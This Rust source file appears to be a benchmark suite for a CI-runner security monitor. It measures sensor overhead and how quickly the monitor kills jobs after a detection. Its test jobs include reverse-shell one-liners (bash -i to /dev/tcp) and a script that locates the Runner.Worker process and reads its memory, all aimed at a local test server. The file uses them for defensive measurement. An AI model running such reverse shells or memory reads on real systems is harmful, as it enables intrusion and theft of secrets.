//! What the sensors cost, and how long it is from a finding to the death of a job.

use crate::Found;
use crate::gate::{Gate, PORT, SERVER, in_turn};
use crate::result::Row;
use crate::statistics::Samples;
use anyhow::{Context, Result, ensure};
use portcullis_common::event::EventKind;
use portcullis_tests::job::Step;
use portcullis_tests::world::{DockerOptions, IMAGE};
use portcullis_tests::{Job, World};
use std::net::{TcpListener, UdpSocket};
use std::thread;

/// Rounds in which with and without take turns; the ratios are near their bounds.
const ROUNDS: usize = 11;

/// The same, or what `PORTCULLIS_BENCH_ROUNDS` says: for whoever can keep a machine quiet for some minutes only.
fn rounds() -> usize {
    let asked = std::env::var("PORTCULLIS_BENCH_ROUNDS").ok();
    asked.and_then(|text| text.parse().ok()).unwrap_or(ROUNDS)
}

/// How many jobs are killed for each kind of finding.
const KILLED: usize = 100;

/// A build of 30 files by two jobs of make, then 5 000 times a program that does nothing.
const PROCESSES: &str = r##"cd "$RUNNER_TEMP"; rm -rf build; mkdir build; cd build
for n in $(seq 30); do
  { echo "#include <stdio.h>"; echo "#include <stdlib.h>"; echo "#include <string.h>"; for f in $(seq 40); do echo "int f${n}_$f(int a, char *b) { return a * $f + (int)strlen(b) + printf(\"%d\", a); }"; done; } >f$n.c
done
printf 'OBJECTS = $(patsubst %%.c,%%.o,$(wildcard *.c))\nall: $(OBJECTS)\n\tar rcs lib.a $(OBJECTS)\n%%.o: %%.c\n\tgcc -O1 -c -o $@ $<\n' >Makefile
b=$(date +%s%N); make -s -j2; for n in $(seq 5000); do /bin/true; done; e=$(date +%s%N); echo $((e - b))
"##;

/// Processes that come and go, behind the gate with all sensors against no monitor at all.
pub(crate) fn processes(found: Found<'_>) -> Result<()> {
    let mut gate = Gate::new(World::builder().build()?, &[])?;
    let [[plain_wall, gated_wall], [plain_cpu, gated_cpu], [_, monitor]] =
        in_turn(rounds(), |is_gated| {
            gate.prepare(is_gated)?;
            let before = gate.used()?;
            let numbers = gate.numbers(PROCESSES, is_gated)?;
            let wall = *numbers.first().context("the job printed no time")? / 1e9;
            let [all, monitor] = gate.used()?.since(before);
            Ok([wall, all, monitor])
        })?;
    let detail = |with: f64, without: f64| {
        format!("{with:.3} s against {without:.3} s, medians of {} rounds", rounds())
    };
    found(
        Row::at_most(
            "process-heavy job, all sensors, wall clock",
            gated_wall / plain_wall,
            1.03,
            "×",
        )
        .with(&detail(gated_wall, plain_wall)),
    )?;
    found(
        Row::at_most(
            "process-heavy job, all sensors, processor time of job, hooks and monitor",
            gated_cpu / plain_cpu,
            1.03,
            "×",
        )
        .with(&format!(
            "{}, {:.0} ms of it the monitor's",
            detail(gated_cpu, plain_cpu),
            monitor * 1e3
        )),
    )
}

/// Connections and datagrams behind one gate, with the kernel's sensors against those of procfs.
pub(crate) fn calls(found: Found<'_>) -> Result<()> {
    let mut gate = Gate::new(World::builder().build()?, &[format!("udp://{SERVER}:{PORT}")])?;
    gate.serve()?;
    let sink = gate.world.internet().run(|| UdpSocket::bind((SERVER, PORT)))??;
    thread::spawn(move || {
        let mut buffer = [0; 16];
        while sink.recv(&mut buffer).is_ok() {}
    });
    let scripts = [
        ("connect with sensors", format!("$CLIENT connect {SERVER} {PORT} 4000")),
        ("UDP send with sensors", format!("$CLIENT datagrams {SERVER} {PORT} 100000")),
    ];
    let medians = in_turn(rounds(), |is_bpf| {
        gate.monitor.stop()?;
        let backend = if is_bpf { "bpf" } else { "procfs" };
        gate.world.write_configuration(&format!("[sensors]\nbackend = \"{backend}\"\n"))?;
        let mut median =
            |script: &str| anyhow::Ok(Samples::new(gate.numbers(script, true)?).median());
        Ok([median(&scripts[0].1)?, median(&scripts[1].1)?])
    })?;
    for ((what, _), [without, with]) in scripts.iter().zip(medians) {
        let unit = if what.starts_with("UDP") { 100.0 } else { 1.0 };
        found(Row::at_most(*what, with / without, 1.05, "×").with(&format!(
            "{:.2} µs against {:.2} µs with sensors by procfs, medians of {} rounds",
            with / 1e3 / unit,
            without / 1e3 / unit,
            rounds()
        )))?;
    }
    Ok(())
}

/// A shell that reads from a pipe and writes to one while its job has a connection: it is stopped until it was judged.
pub(crate) fn stopped_shells(found: Found<'_>) -> Result<()> {
    const SHELLS: usize = 200;
    let mut gate = Gate::new(World::builder().build()?, &[])?;
    serve_quietly(&gate)?;
    lock_down(&gate.world, "Reverse-Shell")?;
    let script = |connect: &str| {
        format!(
            "bash -c '{connect} for n in $(seq {SHELLS}); do b=$(date +%s%N); x=$(echo $n | sh -c \"read l; echo \\$l\" | cat); e=$(date +%s%N); [ $x = $n ] && echo $((e - b)); done'"
        )
    };
    let connected = script(&format!("exec 9<>/dev/tcp/{SERVER}/{PORT};"));
    let (mut with, mut without) = (Vec::new(), Vec::new());
    for _ in 0..3 {
        without.extend(gate.numbers(&script(""), true)?);
        with.extend(gate.numbers(&connected, true)?);
    }
    let (with, without) = (Samples::new(with), Samples::new(without));
    found(
        Row::at_most(
            "a shell in a pipeline that is stopped until it was judged, p50, added",
            (with.median() - without.median()) / 1e6,
            5.0,
            " ms",
        )
        .with(&format!(
            "{:.2} ms against {:.2} ms without a connection; p99 {:.2} ms against {:.2} ms, {} shells",
            with.median() / 1e6,
            without.median() / 1e6,
            with.percentile(99) / 1e6,
            without.percentile(99) / 1e6,
            with.len()
        )),
    )
}

/// From a finding to the death of the Worker.
pub(crate) fn deaths(found: Found<'_>) -> Result<()> {
    let reader = concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/inputs/attacks/memory_reader.c");
    let gate = Gate::new(World::builder().build()?, &[])?;
    serve_quietly(&gate)?;
    let program = gate.world.directory().join("memory_reader");
    let built = std::process::Command::new("gcc")
        .args(["-O1", "-w", "-o"])
        .arg(&program)
        .arg(reader)
        .status()?;
    ensure!(built.success(), "memory_reader.c does not compile");
    let read = format!(
        "w=$$; until [ \"$(cat /proc/$w/comm)\" = Runner.Worker ]; do w=$(awk '/^PPid:/ {{ print $2 }}' /proc/$w/status); done; {} vm-read $w 1 x; sleep 20",
        program.display()
    );
    let shell = format!("bash -i >& /dev/tcp/{SERVER}/{PORT} 0>&1; sleep 20");
    for (what, detection, script, is_root) in [
        ("memory read", "Runner-Worker-Memory-Read", &read, true),
        ("reverse shell", "Reverse-Shell", &shell, false),
    ] {
        lock_down(&gate.world, detection)?;
        let mut times = Vec::new();
        for _ in 0..KILLED {
            let step = Step { run: script.clone(), root: is_root, ..Step::default() };
            let job = Job { steps: vec![step], ..Job::script("true") };
            times.push(killed(&gate, &job)?.worker_ms);
        }
        let times = Samples::new(times);
        let detail = format!("{} jobs, worst {:.1} ms", times.len(), times.percentile(100));
        found(
            Row::at_most(
                format!("{what}: detection to Worker dead, p50"),
                times.median(),
                5.0,
                " ms",
            )
            .with(&detail),
        )?;
        found(Row::at_most(
            format!("{what}: detection to Worker dead, p99"),
            times.percentile(99),
            25.0,
            " ms",
        ))?;
    }
    Ok(())
}

/// From a finding to the death of 500 processes and 5 containers.
pub(crate) fn many(found: Found<'_>) -> Result<()> {
    const JOBS: usize = 9;
    let gate = Gate::new(World::builder().engine().build()?, &[])?;
    serve_quietly(&gate)?;
    let docker = gate.world.docker(&DockerOptions::default())?;
    lock_down(&gate.world, "Reverse-Shell")?;
    let script = format!(
        "for i in $(seq 500); do sleep 1000 & done >/dev/null 2>&1; for i in 1 2 3 4 5; do docker run -d {IMAGE} sleep 1000; done; bash -i >& /dev/tcp/{SERVER}/{PORT} 0>&1; sleep 20"
    );
    let mut times = Vec::new();
    for _ in 0..JOBS {
        let job = Job::script(&script).env("DOCKER_HOST", docker.host_variable());
        let killed = killed(&gate, &job)?;
        ensure!(
            (killed.containers - 5.0).abs() < 0.5,
            "{} containers were killed",
            killed.containers
        );
        times.push(killed.all_ms);
    }
    let times = Samples::new(times);
    found(
        Row::at_most("500 processes and 5 containers dead, p50", times.median(), 300.0, " ms")
            .with(&format!("{} jobs, worst {:.0} ms", times.len(), times.percentile(100))),
    )
}

/// What the record says of a killed job.
struct Killed {
    worker_ms: f64,
    all_ms: f64,
    containers: f64,
}

fn killed(gate: &Gate, job: &Job) -> Result<Killed> {
    gate.world.install_hooks()?;
    let result = gate.world.runner(0).run(job)?;
    gate.monitor.wait_until_idle()?;
    let id = gate.world.job_ids()?.pop().context("no job has left events")?;
    let events = gate.world.events(&id)?;
    let evidence = events
        .iter()
        .find_map(|event| match &event.kind {
            EventKind::Detection(found) if found.is_lockdown => Some(found.evidence.clone()),
            _ => None,
        })
        .with_context(|| {
            format!("the job was not killed:\n{}\n{}", result.log(), gate.monitor.log())
        })?;
    let number = |before: &str, after: &str| -> Option<f64> {
        evidence.rsplit_once(before)?.1.split_once(after)?.0.trim().parse().ok()
    };
    Ok(Killed {
        worker_ms: number("Worker dead after ", " ms").context(evidence.clone())?,
        all_ms: number("everything else after ", " ms").context(evidence.clone())?,
        containers: number("ms, ", " containers").unwrap_or_default(),
    })
}

/// Everything is reachable, and the detection kills.
fn lock_down(world: &World, detection: &str) -> Result<()> {
    world.write_policy(
        "measured",
        &format!(
            "name: measured\negress-policy: audit\nlockdown-mode:\n  enabled: true\n  detections: [{detection}]\nattach:\n  - repository: octo/hello\n"
        ),
    )
}

/// A server that keeps connections open and sends a line to each.
fn serve_quietly(gate: &Gate) -> Result<()> {
    let listener = gate.world.internet().run(|| TcpListener::bind((SERVER, PORT)))??;
    thread::spawn(move || {
        let mut kept = Vec::new();
        for mut stream in listener.incoming().flatten() {
            // A client that is gone needs none.
            let _ = std::io::Write::write_all(&mut stream, b"echo hello\n");
            kept.push(stream);
        }
    });
    Ok(())
}
